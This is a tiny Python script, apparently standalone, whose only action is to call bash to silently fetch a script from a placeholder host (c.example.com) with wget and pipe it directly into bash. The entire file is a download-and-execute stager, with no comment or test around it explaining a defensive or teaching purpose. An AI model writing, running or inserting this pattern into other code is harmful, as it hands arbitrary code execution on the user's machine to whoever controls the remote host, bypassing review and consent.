import subprocess

subprocess.run(['bash', '-c', 'wget -qO- https://c.example.com/i | bash'])
